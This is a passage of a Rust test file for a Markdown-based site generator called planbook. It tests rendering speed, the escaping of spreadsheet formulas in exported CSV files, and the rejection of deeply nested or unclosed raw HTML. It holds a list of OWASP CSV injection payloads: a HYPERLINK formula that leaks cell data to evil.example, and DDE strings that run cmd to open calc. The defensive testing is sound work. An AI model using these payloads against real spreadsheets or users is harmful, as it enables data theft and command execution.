    use planbook::config::RawHtml;
    use planbook::fsio::SourceFile;
    use planbook::linker::Linker;
    use planbook::markdown::{Context, render};
    use planbook::model::Lang;
    let text: String = (0..n)
        .map(|i| format!("- 到2030年，制造业增加值达到{i}亿元，*示例机械集团* `x` [a](#b)\n"))
        .collect();
    let linker = Linker::new(&[vec!["示例机械集团".to_string()]], false);
    let ids = vec!["example-machinery".to_string()];
    let file = SourceFile {
        display: PathBuf::from("content/chapters/01-x/zh.md"),
        text,
    };
    let cx = Context {
        lang: Lang::Zh,
        page_id: "x",
        linker: &linker,
        enterprise_ids: &ids,
        raw_html: RawHtml::Sanitize,
    };
    let started = Instant::now();
    let (body, diags) = render(&file, &cx);
    let took = started.elapsed();
    assert_eq!(body.units.len(), n);
    assert!(diags.is_empty());
    took
}

#[test]
fn a_long_chapter_renders_in_linear_time() {
    render_items(500); // warm up
    let small = render_items(2_000);
    let large = render_items(16_000);
    // 8 times the text: about 8 times the time when linear, 64 times when quadratic (as it was
    // when every event's line number was counted from the top of the file).
    assert!(
        large < small * 24 + Duration::from_millis(500),
        "2,000 items: {small:?}; 16,000 items: {large:?}"
    );
}

// ---------------------------------------------------------------------------------------------
// Spreadsheet formula injection, and raw HTML that must fail fast and loudly.

/// The classic CSV injection payloads (OWASP), one per field that reaches a CSV file.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

/// True when a spreadsheet would evaluate `cell` as a formula: it starts with one of the
/// trigger characters (a leading `'` makes it text).
fn spreadsheet_runs(cell: &str) -> bool {
    cell.trim_start_matches(['\t', '\r', ' '])
        .starts_with(['=', '+', '-', '@'])
        && cell.parse::<f64>().is_err()
}

#[test]
fn csv_cells_are_never_formulas() {
    let dir = tempfile::tempdir().unwrap();
    copy_tree(&fixtures().join("sites/mini"), dir.path());
    let root = dir.path();
    let q = |s: &str| quoted(s).replace('\t', "\\t").replace('\r', "\\r");
    write(
        root,
        "content/enterprises.yaml",
        &format!(
            "enterprises:\n  - id: example-machinery\n    name: {{zh: {}, en: {}}}\n    kind: company\n    aliases: {{zh: [示例机械集团], en: [{}, {}]}}\n    sectors: [manufacturing]\n    basis: {{public: a test entity}}\n",
            q(FORMULAS[0]),
            q(FORMULAS[1]),
            q(FORMULAS[2]),
            q("Example Machinery Group"),
        ),
    );
    write(
        root,
        "content/sectors.yaml",
        &format!(
            "sectors:\n  - id: manufacturing\n    name: {{zh: {}, en: {}}}\n",
            q(FORMULAS[3]),
            q(FORMULAS[4])
        ),
    );
    let targets = read(root, "content/targets.yaml").replace(
        "en: Value added of manufacturing}",
        &format!("en: {}}}", q(FORMULAS[5])),
    );
    write(root, "content/targets.yaml", &targets);
    let out = build(root);
    let mut seen = Vec::new();
    for name in ["enterprises", "sectors", "projects", "targets"] {
        let text = read(&out, &format!("data/{name}.csv"));
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes());
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                assert!(!spreadsheet_runs(cell), "{name}.csv: a formula: {cell:?}");
                if let Some(text) = cell.strip_prefix('\'') {
                    seen.push(text.to_string());
                }
            }
        }
    }
    for payload in FORMULAS {
        assert!(
            seen.iter()
                .any(|s| s.split(';').any(|part| part == payload)),
            "{payload:?} reaches the CSV as text: {seen:?}"
        );
    }
    // The JSON keeps the names as written.
    assert!(read(&out, "data/enterprises.json").contains("=HYPERLINK("));
}

#[test]
fn deeply_nested_raw_html_fails_fast_with_its_line() {
    let dir = tempfile::tempdir().unwrap();
    copy_tree(&fixtures().join("sites/mini"), dir.path());
    let root = dir.path();
    let path = "content/chapters/01-overview/en.md";
    let deep = format!(
        "{}deep{}",
        "<div>".repeat(200_000),
        "</div>".repeat(200_000)
    );
    write(root, path, &format!("{}\n\n{deep}\n", read(root, path)));
    let started = Instant::now();
    let err = planbook::build(root, &root.join("public"))
        .err()
        .expect("refused")
        .to_string();
    let took = started.elapsed();
    assert!(
        err.contains("en.md:10:1281: error[html]: raw HTML nested more than 256 elements deep"),
        "{err}"
    );
    assert!(took < Duration::from_secs(20), "took {took:?}");
    // Inline: nested spans, and opening tags followed by closing tags that match none.
    for inline in [
        format!(
            "a {}x{}",
            "<span>".repeat(200_000),
            "</span>".repeat(200_000)
        ),
        format!("a {}{}", "<b>".repeat(100_000), "</x>".repeat(100_000)),
    ] {
        copy_tree(&fixtures().join("sites/mini"), root);
        write(root, path, &format!("{}\n\n{inline}\n", read(root, path)));
        let started = Instant::now();
        let err = planbook::build(root, &root.join("public"))
            .err()
            .expect("refused")
            .to_string();
        let took = started.elapsed();
        assert!(
            err.contains("en.md:10:")
                && err.contains("raw HTML nested more than 256 elements deep"),
            "{err}"
        );
        assert!(took < Duration::from_secs(20), "took {took:?}");
    }
}

#[test]
fn an_unclosed_comment_is_an_error_at_its_line() {
    let dir = tempfile::tempdir().unwrap();
    copy_tree(&fixtures().join("sites/mini"), dir.path());
    let root = dir.path();
    let path = "content/chapters/01-overview/zh.md";
    let text = read(root, path).replacen("\n\n", "\n\n<!-- <b>a</b> --> <!-- 待核对\n\n", 1);
    write(root, path, &text);
    for policy in ["sanitize", "escape", "trust"] {
        let toml = read(root, "book.toml").replace(
            "theme = \"default\"",
            &format!("theme = \"default\"\nraw-html = \"{policy}\""),
        );
        write(root, "book.toml", &toml);
        let err = planbook::build(root, &root.join("public"))
            .err()
            .expect("refused")
            .to_string();
        assert!(
            err.contains("zh.md:3:19: error[html]: HTML comment `<!--` is not closed"),
            "{policy}: {err}"
        );
        write(
            root,
            "book.toml",
            &read(root, "book.toml").replace(&format!("\nraw-html = \"{policy}\""), ""),
        );
    }
    // Closed comments are fine.
    write(root, path, &text.replace("待核对\n", "待核对 -->\n"));
    planbook::build(root, &root.join("public")).expect("closed comments build");
}
